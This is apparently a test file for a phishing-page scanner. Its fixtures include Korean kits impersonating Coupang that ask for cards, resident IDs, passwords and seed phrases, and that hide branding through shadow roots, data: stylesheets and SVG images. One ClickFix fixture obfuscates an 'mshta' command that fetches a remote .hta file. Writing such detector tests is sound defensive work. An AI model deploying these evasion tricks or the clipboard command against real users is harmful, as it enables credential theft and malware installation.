import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { pageMayConcernBrand, scanPage } from '../../lib/page/index';
import { parse } from './helpers';

/**
 * Author W's half (tune-w, scored once after page23), taken by class with pages written apart from it; next to
 * each honest page a kit of the same shape, which stays caught.
 */
const page = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url = 'https://x.example/p') =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });
const verdict = (html: string, url?: string) => scan(html, url).verdict;
const cardForm =
  '<form action="/pay" method="post"><label for="a">카드 번호</label><input id="a" name="a">' +
  '<label for="b">유효기간</label><input id="b" name="b" placeholder="MM/YY"><button>결제</button></form>';

describe("author W's honest pages", () => {
  it('a shop that says it does not deal in the brand’s money, or that texts in its name are not its own, is not the brand', () => {
    for (const fine of [
      '쿠팡 캐시와 쿠팡 기프트카드는 판매하거나 매입하지 않습니다.',
      '‘쿠팡 상품권 당첨’ 안내 메시지는 당사와 무관한 사기 문자입니다.',
      '저희 몰은 쿠팡 포인트를 교환 및 취급하지 않습니다.',
    ]) {
      const shop = page(
        '상품권 결제',
        `<div class="bar">한빛티켓</div><h2>모바일 상품권</h2><p>편의점 상품권 1만원 9,650원</p>${cardForm}` +
          `<p style="font-size:12px">${fine}</p>`,
      );
      expect(verdict(shop, 'https://hanbit-ticket.example/buy'), fine).toBe('clean');
    }
  });
  it('… while a kit under the brand’s name that says the same stays caught', () => {
    const kit = page(
      '쿠팡 상품권 당첨',
      `<header><div class="logo">쿠팡</div></header><h1>쿠팡 상품권 당첨 수령</h1>` +
        `<p>쿠팡 고객님, 10만원 상품권 수령을 위해 카드 인증이 필요합니다.</p>${cardForm}` +
        '<p>쿠팡 캐시는 현금으로 교환하지 않습니다.</p>',
    );
    expect(verdict(kit, 'https://gift-win.example/r')).toBe('suspicious-page');
  });
});

describe("author W's kits", () => {
  const shadowForm = (boxes: string) =>
    `<div class="host"><template shadowrootmode="open"><style>.lb::before{content:attr(data-say)}</style>${boxes}</template></div>`;
  it('reads boxes drawn with contenteditable inside a shadow root, named by data- placeholders', () => {
    const kit = page(
      '정산 안내',
      '<div class="top"><b>쿠팡</b> 플렉스 고객센터</div><h2>정산 계좌 재등록</h2><p>미등록 시 이번 주 정산이 지급되지 않습니다.</p>' +
        shadowForm(
          '<div contenteditable="true" data-ph="성명" role="textbox"></div>' +
            '<div contenteditable="true" data-ph="주민등록번호 13자리" role="textbox"></div>' +
            '<div contenteditable="true" data-ph="입금 계좌번호" role="textbox"></div>',
        ),
    );
    const r = scan(kit, 'https://flex-pay.example/reg');
    expect(r.verdict).toBe('suspicious-page');
    expect(r.reasons.map((x) => x.code)).toContain('asks-resident-id');
    // the same boxes on a page that is not about the brand: nothing to judge
    expect(verdict(kit.replace('<b>쿠팡</b> 플렉스', '한결물류'), 'https://hangyeol.example/reg')).not.toBe(
      'suspicious-page',
    );
  });
  it("reads a box's label a stylesheet draws from an attribute of its wrapper or of the element before it", () => {
    const kit = page(
      '지갑 연결',
      '<div class="logo">쿠팡 와우 에어드랍</div><p>지갑 연결이 안 되면 직접 인증하세요.</p>' +
        shadowForm(
          '<span class="lb" data-say="지갑 인증 단어 (띄어쓰기로 구분)"></span><div contenteditable="true"></div>' +
            '<button>인증</button>',
        ),
    );
    expect(scan(kit, 'https://wow-drop.example/').reasons.map((x) => x.code)).toContain('asks-seed-phrase');
    const login = page(
      '로그인',
      '<div class="logo">쿠팡</div><style>.f::before{content:attr(data-t)}</style>' +
        '<label class="f" data-t="아이디"><input name="u"></label><label class="f" data-t="비밀번호"><input name="p"></label>',
    );
    expect(scan(login, 'https://member-in.example/').reasons.map((x) => x.code)).toContain('asks-password');
  });
  it('reads "word1 … word12" and "12개 단어" in a box as a wallet’s recovery phrase', () => {
    for (const hint of ['word1 word2 … word12', '12개 단어를 순서대로']) {
      const kit = page(
        'NFT 받기',
        `<div class="logo">쿠팡</div><h1>로켓와우 회원 NFT 에어드랍</h1><textarea placeholder="${hint}"></textarea><button>받기</button>`,
      );
      expect(
        scan(kit, 'https://cp-nft.example/').reasons.map((x) => x.code),
        hint,
      ).toContain('asks-seed-phrase');
    }
    // a wallet maker's own help page that warns about the phrase asks nothing
    const help = page(
      '복구 문구 안내',
      '<h1>복구 문구 12단어 보관법</h1><p>쿠팡 이벤트를 사칭해 12개 단어를 묻는 문자는 모두 사기입니다.</p>' +
        '<form role="search"><input type="search" name="q" placeholder="도움말 검색"></form>',
    );
    expect(verdict(help, 'https://wallet-help.example/seed')).toBe('clean');
  });
});

describe("page23's red team", () => {
  it('a kit that speaks of "your" brand cash and adds the shop’s denial is still the brand speaking', () => {
    const kit = page(
      '캐시 환급',
      '<h2>미사용 캐시 환급 신청</h2><p>12월 31일 소멸 예정인 쿠팡 캐시 31,700원을 결제 카드로 환급해 드립니다.</p>' +
        cardForm.replace(
          '<button>',
          '<label for="c">카드 비밀번호 앞 2자리</label><input id="c" type="password"><button>',
        ) +
        "<p>본 센터는 쿠팡 캐시·상품권을 판매하거나 교환하지 않습니다. '쿠팡 캐시 소멸' 문자는 저희와 무관한 사기입니다.</p>",
    );
    expect(verdict(kit, 'https://cash-back.example/r')).toBe('suspicious-page');
  });
});

describe("page23's red team: a name only where a stylesheet or a picture's other address draws it", () => {
  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
  const mark = (word: string) =>
    `<svg xmlns='http://www.w3.org/2000/svg' width='100%' height='100%' viewBox='0 0 160 40'><text x='2' y='30'>${word}</text></svg>`;
  const pct = (word: string) => `data:image/svg+xml,${encodeURIComponent(mark(word)).replace(/%25/g, '%')}`;
  const ask =
    '<h2>결제 수단 오류</h2><p>카드 정보를 다시 입력해 주세요.</p><label>카드번호 <input name="cn"></label>';
  /** where the kit puts its name; `word` is the name drawn */
  const kits: [string, (word: string) => string][] = [
    [
      'a data: stylesheet in a <link>',
      (w) =>
        `<link rel="stylesheet" href="data:text/css;base64,${b64(`.lg::before{content:"${w}"}`)}"><div class="lg"></div>`,
    ],
    [
      'an @import of a data: stylesheet',
      (w) =>
        `<style>@import url("data:text/css;base64,${b64(`.lg::before{content:"${w}"}`)}");</style><div class="lg"></div>`,
    ],
    [
      'image-set() with a data: SVG',
      (w) =>
        `<style>.lg{height:40px;background-image:image-set("${pct(w)}" 1x)}</style><div class="lg"></div>`,
    ],
    [
      'a custom property in a style attribute',
      (w) => `<style>.lg::before{content:var(--n)}</style><div class="lg" style='--n:"${w}"'></div>`,
    ],
    [
      'an <img srcset> whose src is a blank',
      (w) =>
        `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="data:image/svg+xml;base64,${b64(mark(w))} 1x" alt="">`,
    ],
    [
      "a <picture>'s <source>",
      (w) =>
        `<picture><source srcset="data:image/svg+xml;base64,${b64(mark(w))}" type="image/svg+xml"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""></picture>`,
    ],
    [
      "an SVG with a bare % (width='100%')",
      (w) => `<style>.lg{height:40px;background-image:url("${pct(w)}")}</style><div class="lg"></div>`,
    ],
  ];
  it.each(kits)('%s: the gate opens and the scan reads the name', (_, put) => {
    const kit = page('안내', put('쿠팡 와우') + ask);
    expect(
      pageMayConcernBrand(
        parse(kit.replace(/<label>.*<\/label>/, '<div contenteditable="true"></div>')),
        'https://k.example/',
      ),
    ).toBe(true);
    expect(verdict(kit, 'https://wow-pay.example/card')).toBe('suspicious-page');
    // the same page drawing another shop's name
    const shop = page('안내', put('밀빛제과') + ask.replace('결제 수단 오류', '주문 결제'));
    expect(verdict(shop, 'https://milbit.example/pay')).toBe('clean');
  });
  it('the gate opens on a small page that asks with no field: a keypad of ten keys, a box drawn with contenteditable', () => {
    const keys = [7, 3, 9, 0, 5, 1, 8, 2, 6, 4].map((d) => `<button>${d}</button>`).join('');
    for (const asks of [keys, '<div contenteditable="true"></div>'])
      expect(
        pageMayConcernBrand(parse(page('안내', `<p>확인이 필요합니다.</p>${asks}`)), 'https://n.example/'),
        asks,
      ).toBe(true);
    expect(
      pageMayConcernBrand(
        parse(page('안내', '<p>오늘의 메뉴는 김치찌개입니다.</p><p>1 2 3</p>')),
        'https://n.example/',
      ),
    ).toBe(false);
  });
  it('a keypad over "계좌번호" asks for a bank account', () => {
    const keys = [8, 2, 0, 7, 6, 9, 5, 1, 4, 3].map((d) => `<button type="button">${d}</button>`).join('');
    const kit = page(
      '환불 안내',
      '<div class="logo">쿠팡</div><h2>품절 주문 환불 안내</h2><p>환불 받으실 계좌번호를 아래에서 눌러 주세요.</p>' +
        `<div>${keys}</div>`,
    );
    expect(scan(kit, 'https://refund-acct.example/r').reasons.map((r) => r.code)).toContain(
      'asks-bank-account',
    );
  });
});

describe("author W's kits, played and pictured", () => {
  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
  it('reads a name a rule draws from two attributes in one content value', () => {
    const kit = page(
      '본인 확인',
      '<style>.lg::before{content:attr(data-a) attr(data-b)}</style><div class="top"><span class="lg" data-a="c" data-b="oupang"></span> 고객센터</div>' +
        '<h2>휴대폰 본인확인</h2><p>피해보상 대상 확인을 위해 명의자 정보를 입력해 주세요.</p>' +
        '<label>주민등록번호 <input name="r"></label>',
    );
    expect(verdict(kit, 'https://id-check.example/k')).toBe('suspicious-page');
    expect(
      pageMayConcernBrand(parse(kit.replace(/<label>.*<\/label>/, '')), 'https://id-check.example/k'),
    ).toBe(true);
  });
  const chat = (lines: string[]) =>
    page(
      '상담',
      '<div class="top"><b>쿠팡</b> 고객센터 상담톡</div><div id="log"></div><input id="ci" placeholder="메시지 입력"><button id="s">전송</button>' +
        `<script>var M=${JSON.stringify(lines.map(b64))};var i=0;function bot(){if(i>=M.length)return;var d=document.createElement('div');` +
        "d.textContent=new TextDecoder().decode(Uint8Array.from(atob(M[i++]),function(c){return c.charCodeAt(0)}));document.getElementById('log').appendChild(d)}" +
        "document.getElementById('s').onclick=function(){setTimeout(bot,500)};setTimeout(bot,400);</script>",
    );
  it('reads the lines a chat keeps in base64 and decodes as it plays them', () => {
    const r = scan(
      chat([
        '안녕하세요, 고객센터 AI 상담원입니다. 보상 조회를 도와드릴게요.',
        '본인 확인을 위해 로그인 비밀번호를 입력해 주세요.',
        '보상금을 받을 카드번호 16자리를 입력해 주세요.',
      ]),
      'https://cs-talk.example/c',
    );
    expect(r.verdict).toBe('suspicious-page');
    expect(r.reasons.map((x) => x.code)).toContain('asks-card');
    // a shop's bot that keeps its lines the same way and asks for an order number is a shop's bot
    const shop = chat([
      '안녕하세요, 고객센터 AI 상담원입니다. 무엇을 도와드릴까요?',
      '주문번호를 입력해 주시면 배송 상황을 알려 드릴게요.',
    ]);
    expect(verdict(shop.replace('<b>쿠팡</b>', '<b>하루마켓</b>'), 'https://haru.example/help')).toBe(
      'clean',
    );
  });
  it('reads the steps of a ClickFix drawn as a picture of text', () => {
    const steps = `data:image/svg+xml;base64,${b64("<svg xmlns='http://www.w3.org/2000/svg' width='420' height='36'><text x='4' y='25'>Windows 키 + R → Ctrl + V → Enter</text></svg>")}`;
    const kit = page(
      '보안 확인',
      `<div class="logo">쿠팡</div><h2>접속 보안 확인</h2><p>로봇이 아닌지 확인해 주세요.</p><div id="cb">로봇이 아닙니다</div><img src="${steps}" alt="">` +
        "<script>var c=String.fromCharCode.apply(null,[97,116,104,115,109].reverse())+' https://v.test/a.hta';document.getElementById('cb').onclick=function(){navigator.clipboard.writeText(c)}</script>",
    );
    expect(scan(kit, 'https://secure-gate.example/v').reasons.map((x) => x.code)).toContain(
      'asks-run-command',
    );
    // an IT desk's how-to with the same picture, copying nothing, asks nothing
    const howto = page(
      '실행 창 여는 법',
      `<h2>실행 창 여는 법</h2><p>쿠팡 판매자 프로그램 설치 전에 실행 창을 여는 방법입니다.</p><img src="${steps}" alt="">`,
    );
    expect(verdict(howto, 'https://it-help.example/run')).toBe('clean');
  });
});
